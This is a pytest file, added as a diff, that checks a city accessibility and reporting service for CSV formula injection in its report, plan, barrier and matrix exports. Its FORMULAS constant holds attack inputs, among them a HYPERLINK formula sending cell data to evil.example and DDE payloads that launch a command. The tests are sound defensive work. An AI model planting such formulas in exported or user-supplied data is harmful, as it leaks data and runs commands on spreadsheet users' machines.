@@ -1,0 +1,154 @@
+"""Security properties, each tried as an attacker would on the real server and data."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from fastapi.testclient import TestClient
+from typer.testing import CliRunner
+
+from stufenlos._util import FORMULA_START, csv_frame, csv_safe, csv_unsafe
+from stufenlos.api.app import create_app
+from stufenlos.api.routes.open311 import report_service
+from stufenlos.plan import export as plan_export
+from stufenlos.plan import service as plan_service
+
+V2 = "/open311/v2"
+SECRET = "correct horse battery"
+#: what an attacker types into a free-text field to run a formula in a spreadsheet
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'=1+1")
+
+
+@pytest.fixture
+def client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
+    url = f"sqlite:///{tmp_path / 'app.sqlite'}"
+    monkeypatch.setenv("DATABASE_URL", url)
+    monkeypatch.setenv("STUFENLOS_DATA_DIR", str(tmp_path / "var"))
+    monkeypatch.setenv("STUFENLOS_REPORT_RATE", "1000/minute")
+    store = plan_service.PlanStore(url)
+    with store.session() as session:
+        plan_service.create_editor(session, plan_service.EditorCreate(
+            username="anna", secret=SECRET, roles=["edit", "admin"]), actor="t")
+    store.close()
+    with TestClient(create_app()) as c:
+        yield c
+    from stufenlos.api.routes import open311
+
+    svc = open311._services.pop(url, None)
+    if svc is not None:
+        svc.store.close()
+
+
+def _report(client: TestClient, description: str, *, accept: bool = True, **extra: str) -> dict:
+    data = {"service_code": "blocked-sidewalk", "lat": "53.5528", "long": "9.9930",
+            "description": description, "jurisdiction_id": "hamburg", **extra}
+    r = client.post(f"{V2}/requests.json", data=data)
+    assert r.status_code == 201, r.text
+    created = r.json()[0]
+    if accept:
+        report_service().accept(int(created["service_request_id"]), actor="test")
+    return created
+
+
+def _no_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        for cell in row:
+            if cell.startswith(FORMULA_START):
+                float(cell)  # only a plain number may start with + or -
+
+
+# -- 1. CSV injection ------------------------------------------------------------------------
+
+
+def test_csv_safe_quotes_formulas_keeps_numbers_and_round_trips() -> None:
+    for text in FORMULAS:
+        assert csv_safe(text).startswith("'")
+        assert csv_unsafe(csv_safe(text)) == text
+    for value in ("-3.5", "+1", "-7e3", "Rampe", "'s-Hertogenbosch", "", -3.5, 7, None):
+        assert csv_safe(value) == value
+        if isinstance(value, str):
+            assert csv_unsafe(value) == value
+    frame = pd.DataFrame({"name": ["=1+1", "Altona"], "delta": [-3.5, 2.0]})
+    back = pd.read_csv(io.StringIO(csv_frame(frame)))
+    assert list(back["name"]) == ["'=1+1", "Altona"]
+    assert back["delta"].dtype.kind == "f" and back["delta"].tolist() == [-3.5, 2.0]
+
+
+def test_report_exports_neutralise_formulas(client: TestClient, tmp_path: Path) -> None:
+    for text in FORMULAS:
+        _report(client, text, address_string=text)
+    r = client.get(f"{V2}/requests.csv")
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text)))
+    _no_formula(rows)
+    header = rows[0]
+    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+    assert {rec["description"] for rec in records} >= {"'" + FORMULAS[0], "'-2+3"}
+    assert all(-90 <= float(rec["lat"]) <= 90 and float(rec["long"]) for rec in records)
+
+    from stufenlos.cli import app
+
+    out = CliRunner().invoke(app, ["reports", "export", "--format", "csv", "--database-url",
+                                   f"sqlite:///{tmp_path / 'app.sqlite'}"])
+    assert out.exit_code == 0, out.output
+    _no_formula(list(csv.reader(io.StringIO(out.stdout))))
+
+
+def test_plan_csv_export_neutralises_formulas_and_round_trips(client: TestClient,
+                                                              tmp_path: Path) -> None:
+    for i, text in enumerate(FORMULAS):
+        r = client.post("/api/plan/stakeholders", auth=("anna", SECRET),
+                        json={"name": f"{text} {i}", "sector": "other"})
+        assert r.status_code == 201, r.text
+    blob = client.get("/api/plan/export.zip", auth=("anna", SECRET)).content
+    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
+        for name in zf.namelist():
+            _no_formula(list(csv.reader(io.StringIO(zf.read(name).decode()))))
+        stakeholders = list(csv.DictReader(io.StringIO(zf.read("stakeholders.csv").decode())))
+    assert "'" + FORMULAS[0] + " 0" in {s["name"] for s in stakeholders}
+    other = plan_service.PlanStore(f"sqlite:///{tmp_path / 'other.sqlite'}")
+    with other.session() as session:
+        plan_export.import_csv_zip(session, blob, actor="test")
+    with other.session() as session:
+        names = {row["name"] for row in plan_export.export_data(session)["tables"]["stakeholders"]}
+    other.close()
+    assert {f"{text} {i}" for i, text in enumerate(FORMULAS)} <= names
+
+
+def test_barrier_and_matrix_csv_neutralise_formulas(imported_city, city_base: Path,
+                                                     tmp_path: Path) -> None:
+    from stufenlos.barriers import BarrierStore, write_city_database
+    from stufenlos.cli import app
+
+    hamburg = imported_city("hamburg")
+    runner = CliRunner()
+    out = runner.invoke(app, ["barriers", "hamburg", "--format", "csv",
+                              "--data-dir", str(city_base)])
+    assert out.exit_code == 0, out.output
+    real = list(csv.DictReader(io.StringIO(out.stdout)))
+    assert len(real) > 10 and all(float(r["lon"]) and float(r["lat"]) for r in real)
+    # the same records, one of them named by an attacker (OSM names are free text)
+    records = BarrierStore(hamburg.database_path).query(limit=20)
+    records[0]["name"] = FORMULAS[0]
+    write_city_database(tmp_path / "city.sqlite", records, {"city": "hamburg"})
+    rows = list(csv.reader(io.StringIO(BarrierStore(tmp_path / "city.sqlite").to_csv())))
+    _no_formula(rows)
+    assert "'" + FORMULAS[0] in {cell for row in rows for cell in row}
+
+    points = tmp_path / "points.csv"
+    points.write_text(f'lat,lon,id\n53.5528,9.9930,"{FORMULAS[0].replace(chr(34), 2 * chr(34))}"\n'
+                      "53.5530,9.9940,@SUM(1)\n", encoding="utf-8")
+    out = runner.invoke(app, ["matrix", "hamburg", "--origins", str(points), "--destinations",
+                              str(points), "--data-dir", str(city_base)])
+    assert out.exit_code == 0, out.output
+    rows = list(csv.reader(io.StringIO(out.stdout)))
+    _no_formula(rows)
+    assert rows[1][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[0]] and len(rows) == 5
+    assert float(rows[2][2]) > 0  # costs are still numbers
